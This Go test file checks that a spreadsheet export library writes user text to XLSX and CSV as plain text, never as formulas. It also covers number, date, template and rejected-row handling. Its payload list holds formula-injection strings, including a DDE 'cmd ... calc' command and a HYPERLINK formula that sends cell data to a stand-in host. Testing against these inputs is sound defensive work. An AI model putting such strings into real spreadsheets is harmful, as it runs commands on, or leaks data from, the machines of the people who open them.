package sheet_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/tongxing-platform/tongxing/services/platform/sheet"
)

// payloads are texts that spreadsheets, or other texts that lists of attacks, take for formulas.
func payloads() (all []string) {
	bodies := []string{"1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://x/?"&A1,"click")`, "SUM(A1:A9)", `WEBSERVICE("http://x")`, "@SUM(1)", "DDE(\"a\")", "2"}
	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "\t=", "\r=", "\n=", " =", "\u3000=", "\uFEFF=", "\u200B=", "'=", "''=", "\x0b=", "﹦"} {
		for _, body := range bodies {
			all = append(all, sign+body)
		}
	}
	return append(all, "", "'", "''", "'1", "=", "\t", "<f>1</f>", "]]>", "_x003D_1+1", "&#61;1", `";=1`, "a\n=1", "100%", "=1,=2", "\"=1")
}

func written(t *testing.T, sheets ...sheet.Sheet) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := sheet.Write(&b, sheets...); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestNoFormula reopens what was written with another reader: the texts are there, and none is a formula or a number.
func TestNoFormula(t *testing.T) {
	s := sheet.Sheet{Name: "=A1", Header: payloads()}
	for _, p := range payloads() {
		s.Rows = append(s.Rows, []string{p})
	}
	f, err := excelize.OpenReader(bytes.NewReader(written(t, s)))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	for i, want := range append([]string{s.Header[0]}, payloads()...) {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		formula, _ := f.GetCellFormula("=A1", cell)
		got, err := f.GetCellValue("=A1", cell)
		kind, _ := f.GetCellType("=A1", cell)
		if err != nil || formula != "" || got != strings.ReplaceAll(want, "\x0b", "\uFFFD") {
			t.Errorf("%s: %q formula %q, want %q (%v)", cell, got, formula, want, err)
		}
		if want != "" && kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("%s: type %d", cell, kind)
		}
	}
}

// TestValues: numbers and days of columns that hold them are written as such, so that another program adds them up; all else stays text.
func TestValues(t *testing.T) {
	s := sheet.Sheet{
		Name: "v", Header: []string{"n", "yuan", "day", "text"}, Kinds: []sheet.Kind{sheet.Integer, sheet.Decimal, sheet.Date},
		Rows: [][]string{{"12", "1234.50", "2026-03-01", "007"}, {"-3", "0.05", "2026-03-01 08:30", "12"}, {"=1+1", "1,000", "2026-02-30", ""}, {"12345678901234567", "NaN", "", "x"}},
	}
	f, err := excelize.OpenReader(bytes.NewReader(written(t, s)))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	for cell, want := range map[string]struct {
		raw    string
		shown  string
		number bool
	}{
		"A2": {"12", "12", true}, "A3": {"-3", "-3", true}, "A4": {"=1+1", "=1+1", false}, "A5": {"12345678901234567", "12345678901234567", false},
		"B2": {"1234.5", "1,234.50", true}, "B3": {"0.05", "0.05", true}, "B4": {"1,000", "1,000", false}, "B5": {"NaN", "NaN", false},
		"C2": {"46082", "2026-03-01", true}, "C3": {"46082.354166666664", "2026-03-01 08:30", true}, "C4": {"2026-02-30", "2026-02-30", false},
		"D2": {"007", "007", false}, "D3": {"12", "12", false},
	} {
		raw, err := f.GetCellValue("v", cell, excelize.Options{RawCellValue: true})
		shown, _ := f.GetCellValue("v", cell)
		kind, _ := f.GetCellType("v", cell)
		formula, _ := f.GetCellFormula("v", cell)
		number := kind == excelize.CellTypeUnset || kind == excelize.CellTypeNumber
		if err != nil || raw != want.raw || shown != want.shown || number != want.number || formula != "" {
			t.Errorf("%s: %q shown %q, number %t (type %d), formula %q; want %+v", cell, raw, shown, number, kind, formula, want)
		}
	}
}

// TestCSVGuard: no field begins like a formula, and reading gives back the text.
func TestCSVGuard(t *testing.T) {
	s := sheet.Sheet{Header: []string{"=内容", "其他"}}
	texts := append(payloads(), "990053200608267116", "0571", "13812345678", "'990053200608267116", "007", "普通", "-12", "12-3")
	for _, p := range texts {
		s.Rows = append(s.Rows, []string{p, "x"})
	}
	var b bytes.Buffer
	if err := sheet.WriteCSV(&b, s); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b.Bytes(), []byte("\uFEFF")) {
		t.Error("no byte order mark")
	}
	r := csv.NewReader(bytes.NewReader(b.Bytes()[3:]))
	for n := 0; ; n++ {
		record, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if bare := strings.TrimLeft(record[0], " \u3000\uFEFF\u200B\x0b"); bare != "" && strings.ContainsAny(bare[:1], "=+-@\t\r\n") ||
			strings.HasPrefix(bare, "＝") || strings.HasPrefix(bare, "＋") || strings.HasPrefix(bare, "－") || strings.HasPrefix(bare, "＠") {
			t.Errorf("record %d begins like a formula: %q", n, record[0])
		}
	}
	l := sheet.Layout{Columns: []sheet.Column{{Key: "v", Names: []string{"内容"}}, {Key: "x", Names: []string{"其他"}}}}
	got := read(t, "x.csv", b.Bytes(), l)
	if len(got.Rows) != len(texts) {
		t.Fatalf("%d rows, want %d", len(got.Rows), len(texts))
	}
	for i, r := range got.Rows {
		want := strings.Join(strings.Fields(strings.NewReplacer("\uFEFF", "", "\u200B", "", "\x0b", " ").Replace(texts[i])), " ")
		if v := r.Value("v"); v != want {
			t.Errorf("%q came back as %q", texts[i], v)
		}
	}
}

func TestSheetNames(t *testing.T) {
	long := strings.Repeat("很长的名字", 10)
	data := written(t, sheet.Sheet{Name: "a/b:c*[d]?\\"}, sheet.Sheet{}, sheet.Sheet{Name: long}, sheet.Sheet{Name: long}, sheet.Sheet{Name: "A_b_c__d___"}, sheet.Sheet{Name: "'x'"}, sheet.Sheet{Name: "SHEET1"})
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	if got := f.GetSheetList(); len(got) != 7 {
		t.Errorf("sheets %q", got)
	}
	if got := written(t); len(got) == 0 {
		t.Error("no sheet gives no workbook")
	}
}

func TestTemplate(t *testing.T) {
	var b bytes.Buffer
	if err := sheet.Template(&b, "花名册", roster); err != nil {
		t.Fatal(err)
	}
	got := read(t, "x.xlsx", b.Bytes(), roster)
	if s := got.Sheets[0]; len(s.Columns) != len(roster.Columns) || len(got.Rows) != 0 || s.Name != "花名册" || s.Header[0] != "*姓名" {
		t.Errorf("%+v", s)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	id, _ := f.GetColStyle("花名册", "D")
	style, err := f.GetStyle(id)
	if err != nil || style.NumFmt != 49 {
		t.Errorf("an ID number typed into the template would be rounded: %+v, %v", style, err)
	}
}

func refusals(got sheet.Table) (list []sheet.Refusal) {
	for _, r := range got.Rows {
		if ps := r.Problems(); len(ps) > 0 {
			list = append(list, sheet.Refusal{Row: r, Problems: ps})
		}
	}
	return list
}

func refusedFile(t *testing.T, got sheet.Table, lang string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := sheet.Refused(&b, refusals(got), lang); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestRefusedFileIsRefusedAgain: what is handed back uncorrected is refused for the same reasons, again and again; corrected it is taken.
func TestRefusedFileIsRefusedAgain(t *testing.T) {
	got := read(t, "x.xlsx", workbook(t, office), roster)
	first := refusedFile(t, got, "zh")
	golden(t, "refused", displayed(t, first))
	again := read(t, "y.xlsx", first, roster)
	if a, b := codes(got), codes(again); a != b {
		t.Errorf("refused again for other reasons:\n%s\n%s", a, b)
	}
	second := refusedFile(t, again, "en")
	if a, b := strings.Count(displayed(t, first), " | "), strings.Count(displayed(t, second), " | "); a != b {
		t.Errorf("the table grows from %d to %d cells", a, b)
	}
	if s := again.Sheets[0]; strings.Contains(strings.Join(append(s.Unknown, s.Header...), ""), "原因") {
		t.Errorf("the reasons are taken for a column: %+v", s)
	}
	corrected(t, first)
}

func corrected(t *testing.T, file []byte) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	for cell, v := range map[string]string{
		"E2": "990053200608267116", "E3": "990049198509113408", "E4": "990035198803066595", "F4": "13812345678",
		"B5": "孙子", "D5": "1963-06-26", "D6": "1986-10-15", "F6": "13812345678",
	} {
		if err := f.SetCellStr("Sheet1", cell, v); err != nil {
			t.Fatal(err)
		}
	}
	b, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	got := read(t, "z.xlsx", b.Bytes(), roster)
	if len(got.Rows) != 5 || codes(got) != "" {
		t.Errorf("%d rows, still refused: %s", len(got.Rows), codes(got))
	}
}

// TestRefusedCells: every kind of refused cell stays refused, from XLSX and from CSV.
func TestRefusedCells(t *testing.T) {
	cells := number("9.9E+17") + `<c><f>A1</f></c>` + `<c t="e"><v>#N/A</v></c>` + text(strings.Repeat("长", 3000)) + number("990053200608267116")
	var cols []sheet.Column
	names := []string{"甲", "乙", "丙", "丁", "戊"}
	for i, n := range names {
		cols = append(cols, sheet.Column{Key: n, Names: []string{n}, Kind: []sheet.Kind{sheet.Text, sheet.Text, sheet.Text, sheet.Text, sheet.IDNumber}[i]})
	}
	l := sheet.Layout{Columns: cols}
	got := read(t, "x.xlsx", zipped(t, bookParts(textRow(names...)+"<row>"+cells+"</row>")...), l)
	again := read(t, "x.xlsx", refusedFile(t, got, "zh"), l)
	if a := codes(got); a != "甲 number_rounded\n乙 formula_no_value\n丙 cell_error\n丁 cell_too_long\n戊 number_rounded\n" {
		t.Errorf("at first:\n%s", a)
	}
	if a := codes(again); a != "甲 number_rounded\n乙 cell_error\n丙 cell_error\n丁 cell_too_long\n戊 number_rounded\n" {
		t.Errorf("again:\n%s", a)
	}
}

func codes(t sheet.Table) string {
	var b strings.Builder
	for _, r := range t.Rows {
		for _, p := range r.Problems() {
			b.WriteString(p.Key + " " + p.Err.Code + "\n")
		}
	}
	return b.String()
}

// displayed is the whole workbook as another reader sees it.
func displayed(t *testing.T, data []byte) string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	var b strings.Builder
	for _, name := range f.GetSheetList() {
		b.WriteString("== " + name + "\n")
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			b.WriteString(strings.Join(r, " | ") + "\n")
		}
	}
	return b.String()
}

// TestTemplateWithHints writes a template with a row of hints and lists of choices, which a spreadsheet program finds, and reads it again
// with a row filled in.
func TestTemplateWithHints(t *testing.T) {
	layout := sheet.Layout{Columns: []sheet.Column{
		{Key: "name", Names: []string{"姓名"}, Required: true, Hint: "必填"},
		{Key: "gender", Names: []string{"性别"}, Hint: "男或女", Choices: []string{"男", "女"}},
		{Key: "long", Names: []string{"说明"}, Hint: "任意", Choices: []string{strings.Repeat("长", 256)}},
	}}
	var b bytes.Buffer
	if err := sheet.Template(&b, "模板", layout); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	lists, err := f.GetDataValidations("模板")
	if err != nil || len(lists) != 1 || lists[0].Sqref != "B3:B3003" || lists[0].Formula1 != `"男,女"` {
		t.Errorf("lists: %+v %v", lists, err)
	}
	for cell, text := range map[string]string{"A3": "甲", "B3": "女"} {
		if err := f.SetCellStr("模板", cell, text); err != nil {
			t.Fatal(err)
		}
	}
	var filled bytes.Buffer
	if err := f.Write(&filled); err != nil {
		t.Fatal(err)
	}
	got, err := sheet.Read(t.Context(), "模板.xlsx", filled.Bytes(), layout, sheet.Limits{})
	if err != nil || len(got.Rows) != 1 || got.Sheets[0].HeaderRow != 2 || got.Rows[0].Value("gender") != "女" || len(got.Rows[0].Problems()) > 0 {
		t.Errorf("%+v %v", got, err)
	}
}
